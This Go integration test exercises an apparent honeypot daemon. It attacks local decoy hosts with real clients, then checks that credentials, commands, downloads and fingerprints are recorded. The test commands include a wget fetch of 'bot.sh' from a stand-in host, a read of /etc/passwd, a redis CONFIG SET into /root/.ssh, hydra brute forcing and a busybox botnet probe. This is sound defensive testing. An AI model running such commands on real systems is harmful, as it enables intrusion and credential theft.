package assembly

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/decnet/decnet/internal/daemontest"
)

// Two deckies and the ports of their services, which test runs share with nobody.
const (
	alpha, beta = "127.0.60.1", "127.0.60.2"
	offset      = 30000

	// hostile is what a credential may look like, and hostileLine one that can be typed.
	hostile     = hostileLine + "\nx=\"1\"] <b>"
	hostileLine = "p\"a]s\\s'w d"
)

const twoDeckies = `
[alpha]
ip = 127.0.60.1
distro = debian
services = ssh, telnet, http, ftp

[alpha.ssh]
password = hunter22
accept = list
fail_delay = 100

[alpha.telnet]
password = hunter22
fail_delay = 100

[beta]
ip = 127.0.60.2
services = ssh, https, redis, mysql, smtp

[beta.ssh]
accept = any
tries = 1
fail_delay = 100

[beta.mysql]
accept = any
tries = 1

[beta.smtp]
relay = yes
accept = any
mechanisms = PLAIN LOGIN
`

func port(n int) string { return strconv.Itoa(offset + n) }

func writeFile(t *testing.T, name, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestAttack attacks two deckies with real clients and finds all of it through the API.
func TestAttack(t *testing.T) {
	d := daemontest.Start(t, binaries.race, t.TempDir(), "--config", writeFile(t, "two.ini", twoDeckies), "--port-offset", strconv.Itoa(offset))
	d.LogIn(t)

	const first, second = "127.0.0.61", "127.0.0.62" // attackers; clients that cannot choose come from 127.0.0.1
	sshTo := func(from, host, user, password, command string) string {
		return daemontest.Client(t, "", "sshpass", "-p", password, "ssh", "-p", port(22), "-b", from, "-o", "StrictHostKeyChecking=no",
			"-o", "UserKnownHostsFile=/dev/null", "-o", "NumberOfPasswordPrompts=1", user+"@"+host, command)
	}
	if out := sshTo(first, alpha, "root", "wrong", "id"); strings.Contains(out, "uid=") {
		t.Errorf("a wrong password lets in: %s", out)
	}
	if out := sshTo(first, alpha, "root", "hunter22", "id; uname -s && wget http://198.51.100.7/bot.sh | tee /tmp/log; echo '#!/bin/sh' > /tmp/x.sh"); !strings.Contains(out, "uid=0(root)") || !strings.Contains(out, "Linux") {
		t.Errorf("the shell answers %q", out)
	}
	if out := sshTo(first, beta, "admin", hostileLine, "cat /etc/passwd | head -n 1"); !strings.Contains(out, "root:x:0:0") {
		t.Errorf("the shell of beta answers %q", out)
	}
	daemontest.Client(t, "", "curl", "-s", "-m", "10", "--interface", second, "-A", "Nikto/2.5", "-u", "admin:"+hostile, "http://"+alpha+":"+port(80)+"/admin/?q=1")
	daemontest.Client(t, "", "curl", "-s", "-m", "10", "-k", "--interface", second, "-d", "log=root&pwd=letmein", "https://"+beta+":"+port(443)+"/wp-login.php")
	upload := writeFile(t, "implant.bin", "MZ\x00not really\xff")
	daemontest.Client(t, "", "lftp", "-c", fmt.Sprintf("set net:timeout 5; set net:max-retries 1; open -u anonymous,ftp@example.org -p %s %s; ls; cd upload; put %s; bye", port(21), alpha, upload))
	daemontest.Client(t, "", "redis-cli", "-h", beta, "-p", port(6379), "-a", hostile, "CONFIG", "SET", "dir", "/root/.ssh")
	daemontest.Client(t, "", "mysql", "-h", beta, "-P", port(3306), "-u", "dba", "-ps3cret", "--ssl=0", "-e", "show databases; select @@version")
	daemontest.Client(t, "", "swaks", "--server", beta, "--port", port(25), "--auth", "LOGIN", "--auth-user", "sales", "--auth-password", "Spring!24",
		"--from", "a@example.org", "--to", "victim@example.net", "--header", "Subject: test relay", "--timeout", "10s")
	daemontest.Client(t, "", "swaks", "--server", beta, "--port", port(587), "--from", "a@example.org", "--to", "victim@example.net", "--body", "click here", "--timeout", "10s")
	telnet := fmt.Sprintf(`set timeout 10
spawn telnet %s %s
expect "login:" { send "root\r" }
expect "Password:" { send "hunter22\r" }
expect -re {[#$] $} { send "busybox ECCHI\r" }
expect "applet not found" { send "exit\r" }
expect eof`, alpha, port(23))
	if out := daemontest.Client(t, telnet, "expect", "-f", "-"); !strings.Contains(out, "applet not found") {
		t.Errorf("telnet shows %q", out)
	}
	words := writeFile(t, "words", "123456\npassword\nqwerty\n")
	daemontest.Client(t, "", "hydra", "-l", "oracle", "-P", words, "-t", "1", "-s", port(22), alpha, "ssh")
	daemontest.Client(t, "", "hydra", "-l", "ftpuser", "-P", words, "-t", "1", "-s", port(21), alpha, "ftp")

	t.Run("credentials", func(t *testing.T) {
		for _, want := range []struct{ attacker, decky, service, username, password string }{
			{first, "alpha", "ssh", "root", "wrong"},
			{first, "alpha", "ssh", "root", "hunter22"},
			{first, "beta", "ssh", "admin", hostileLine},
			{second, "alpha", "http", "admin", hostile},
			{second, "beta", "https", "root", "letmein"},
			{"127.0.0.1", "alpha", "ftp", "anonymous", "ftp@example.org"},
			{"127.0.0.1", "beta", "redis", "default", hostile},
			{"127.0.0.1", "beta", "smtp", "sales", "Spring!24"},
			{"127.0.0.1", "alpha", "telnet", "root", "hunter22"},
			{"127.0.0.1", "alpha", "ssh", "oracle", "qwerty"},
			{"127.0.0.1", "alpha", "ftp", "ftpuser", "password"},
		} {
			what := fmt.Sprintf("%s on %s/%s", want.username, want.decky, want.service)
			daemontest.WaitFor(t, "event of "+what, func() bool {
				return slices.ContainsFunc(d.Logs(t, "event:auth_attempt decky:"+want.decky+" service:"+want.service), func(l daemontest.LogRow) bool {
					return l.Attacker == want.attacker && l.Field("username") == want.username && l.Field("password") == want.password
				})
			})
			daemontest.WaitFor(t, "bounty of "+what, func() bool {
				var page daemontest.Page[daemontest.BountyRow]
				if err := d.Call(t.Context(), "GET", "/bounty?limit=1000&bounty_type=credential", nil, &page); err != nil {
					t.Fatal(err)
				}
				return slices.ContainsFunc(page.Data, func(b daemontest.BountyRow) bool {
					return b.Attacker == want.attacker && b.Decky == want.decky && b.Service == want.service &&
						b.Payload["username"] == want.username && b.Payload["password"] == want.password
				})
			})
		}
		daemontest.WaitFor(t, "lossless twin of a password", func() bool {
			return slices.ContainsFunc(d.Logs(t, "event:auth_attempt service:redis"), func(l daemontest.LogRow) bool {
				return l.Field("password_b64") == base64.StdEncoding.EncodeToString([]byte(hostile))
			})
		})
		daemontest.WaitFor(t, "response of mysql that can be cracked", func() bool {
			return slices.ContainsFunc(d.Logs(t, "event:auth_attempt service:mysql"), func(l daemontest.LogRow) bool {
				return l.Field("username") == "dba" && l.Field("secret") != "" && l.Field("challenge") != "" || l.Field("password") == "s3cret"
			})
		})
	})

	t.Run("commands", func(t *testing.T) {
		for _, want := range []struct{ attacker, decky, service, part string }{
			{first, "alpha", "ssh", "wget http://198.51.100.7/bot.sh"},
			{first, "beta", "ssh", "cat /etc/passwd | head -n 1"},
			{"127.0.0.1", "alpha", "telnet", "busybox ECCHI"},
			{"127.0.0.1", "beta", "redis", "/root/.ssh"},
			{"127.0.0.1", "beta", "mysql", "show databases"},
		} {
			daemontest.WaitFor(t, want.part, func() bool {
				a := d.Attacker(t, want.attacker)
				if a == nil {
					return false
				}
				var page daemontest.Page[daemontest.CommandRow]
				if err := d.Call(t.Context(), "GET", "/attackers/"+a.UUID+"/commands?limit=200", nil, &page); err != nil {
					t.Fatal(err)
				}
				return slices.ContainsFunc(page.Data, func(c daemontest.CommandRow) bool {
					return c.Decky == want.decky && c.Service == want.service && strings.Contains(c.Command, want.part)
				})
			})
		}
		daemontest.WaitFor(t, "URL of the download", func() bool {
			return slices.ContainsFunc(d.Logs(t, "event:download_attempt service:ssh"), func(l daemontest.LogRow) bool {
				return l.Field("url") == "http://198.51.100.7/bot.sh"
			})
		})
	})

	t.Run("traversal", func(t *testing.T) {
		daemontest.WaitFor(t, "alpha → beta", func() bool {
			a := d.Attacker(t, first)
			return a != nil && a.Traversal == "alpha → beta" && a.IsTraversal && slices.Equal(a.Deckies, []string{"alpha", "beta"})
		})
		out := daemontest.Client(t, "", binaries.plain, "correlate", "--json", filepath.Join(d.Data, "decnet.log"))
		if !strings.Contains(out, `"path":"alpha → beta"`) {
			t.Errorf("correlate finds %s", out)
		}
	})

	t.Run("artifacts", func(t *testing.T) {
		var uploaded daemontest.LogRow
		daemontest.WaitFor(t, "upload over ftp", func() bool {
			rows := d.Logs(t, "event:file_captured service:ftp")
			if len(rows) > 0 {
				uploaded = rows[0]
			}
			return len(rows) > 0
		})
		var content []byte
		if err := d.Call(t.Context(), "GET", "/artifacts/alpha/"+uploaded.Field("stored_as"), nil, &content); err != nil {
			t.Fatal(err)
		}
		if string(content) != "MZ\x00not really\xff" {
			t.Errorf("the artifact holds %q", content)
		}
		daemontest.WaitFor(t, "file written in the shell", func() bool {
			return slices.ContainsFunc(d.Logs(t, "event:file_captured service:ssh"), func(l daemontest.LogRow) bool {
				return l.Field("orig_path") == "/tmp/x.sh" && l.Attacker == first
			})
		})
		daemontest.WaitFor(t, "mail of the open relay", func() bool { return len(d.Logs(t, "event:message_accepted service:smtp")) == 2 })
		a := d.Attacker(t, "127.0.0.1")
		var page daemontest.Page[daemontest.LogRow]
		if err := d.Call(t.Context(), "GET", "/attackers/"+a.UUID+"/artifacts", nil, &page); err != nil {
			t.Fatal(err)
		}
		if page.Total < 3 {
			t.Errorf("%d artifacts of 127.0.0.1, want the upload and two messages", page.Total)
		}
	})

	t.Run("fingerprints", func(t *testing.T) {
		daemontest.WaitFor(t, "HASSH of the ssh client", func() bool {
			return slices.ContainsFunc(d.Logs(t, "event:session service:ssh attacker:"+first), func(l daemontest.LogRow) bool {
				return len(l.Field("hassh")) == 32 && strings.HasPrefix(l.Field("client_banner"), "SSH-2.0-OpenSSH_")
			})
		})
		daemontest.WaitFor(t, "tool of the web client", func() bool {
			var detail struct {
				Behavior struct {
					Tools []string `json:"tool_guesses"`
				} `json:"behavior"`
			}
			a := d.Attacker(t, second)
			if a == nil {
				return false
			}
			if err := d.Call(t.Context(), "GET", "/attackers/"+a.UUID, nil, &detail); err != nil {
				t.Fatal(err)
			}
			return slices.Contains(detail.Behavior.Tools, "nikto")
		})
	})

	t.Run("health", func(t *testing.T) {
		var h struct{ Status string }
		if err := d.Call(t.Context(), "GET", "/health", nil, &h); err != nil || h.Status != "healthy" {
			t.Errorf("%+v, %v", h, err)
		}
	})
	d.Stop(t)
	if strings.Contains(d.Said(), "DATA RACE") || strings.Contains(d.Said(), "panicked") {
		t.Error("the daemon reports a race or a panic")
	}
}

// TestSecondStartContinues checks that a restart keeps the deckies, their keys, the
// accounts and the records, and that two daemons cannot share a directory.
func TestSecondStartContinues(t *testing.T) {
	data := t.TempDir()
	args := []string{"--port-offset", strconv.Itoa(offset), "--base-ip", "127.0.61.1", "--services", "ssh"}
	d := daemontest.Start(t, binaries.plain, data, args...)
	d.LogIn(t)
	keyscan := func() string {
		lines := strings.Split(daemontest.Client(t, "", "ssh-keyscan", "-T", "10", "-p", port(22), "127.0.61.1"), "\n")
		slices.Sort(lines)
		return strings.Join(slices.DeleteFunc(lines, func(l string) bool { return strings.HasPrefix(l, "#") || l == "" }), "\n")
	}
	before := keyscan()
	if strings.Count(before, "\n") != 2 {
		t.Errorf("host keys:\n%s", before)
	}
	out := daemontest.Client(t, "", binaries.plain, "up", "--data", data, "--api", daemontest.FreeAddr(t))
	if !strings.Contains(out, "in use by the decnetd up on") {
		t.Errorf("a second daemon on one directory says %q", out)
	}
	daemontest.WaitFor(t, "events before the restart", func() bool { return len(d.Logs(t, "event:connect")) > 0 })
	d.Stop(t)

	d = daemontest.Start(t, binaries.plain, data, "--port-offset", strconv.Itoa(offset))
	d.LogIn(t)
	if after := keyscan(); after != before {
		t.Errorf("host keys before:\n%s\nafter:\n%s", before, after)
	}
	if strings.Contains(d.Said(), "password:") {
		t.Error("the password is shown again")
	}
	daemontest.WaitFor(t, "events of before and after the restart", func() bool { return len(d.Logs(t, "event:session service:ssh")) >= 2 })
	d.Stop(t)
}
